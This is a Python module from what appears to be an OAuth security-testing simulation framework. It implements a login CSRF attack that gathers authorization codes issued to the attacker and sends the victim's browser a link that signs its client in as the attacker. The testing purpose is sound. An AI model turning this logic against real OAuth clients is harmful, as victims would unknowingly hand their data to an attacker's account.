"""Login CSRF: the victim's browser is sent to the client with the attacker's code."""

from typing import ClassVar

from simlib.attacks.base import BROWSER, Candidate, FlowAttack, NotApplicable, Preparation, send
from simlib.attacks.oauth_requests import (
    build_authorization_request,
    make_form_request,
    make_proof_key,
    read_parameters,
)
from simlib.scenario.effects import Answer, Context, Flow, Reply


class LoginCsrf(FlowAttack):
    """The victim continues under the attacker's account, which receives the data that the victim enters."""

    name: ClassVar[str] = "login_csrf"
    summary: ClassVar[str] = "a link with the attacker's code makes the victim's client sign in as the attacker"
    source: ClassVar[str] = "RFC 6749 section 10.12, RFC 9700 sections 2.1 and 4.7"
    needs: ClassVar[tuple[str, ...]] = ("fresh_redirect",)
    single_use: ClassVar[bool] = True

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Sign in as the attacker, with and without a challenge, and store the redirects."""
        if not self.assets.fresh_redirect:
            return NotApplicable("this client expects no redirect")
        _, challenge = make_proof_key(ctx)
        credentials = {"login": self.assets.login, "password": self.assets.password}
        candidates = []
        for label, proof in (("a code without challenge", ""), ("a code with the attacker's challenge", challenge)):
            parameters = build_authorization_request(self.assets, self.assets.redirect_uri, proof, **credentials)
            answer = yield from send("authorize", make_form_request(**parameters))
            location = answer.body.decode() if isinstance(answer, Reply) and answer.status == 302 else ""
            if "code" in read_parameters(location):
                candidates.append(Candidate(label, location))
        return tuple(candidates) or NotApplicable("this client receives no codes")

    def attempt(self, ctx: Context, candidate: Candidate) -> Flow[Answer]:
        """Send the victim the link."""
        return send(BROWSER, make_form_request(step="redirect", location=candidate.value))
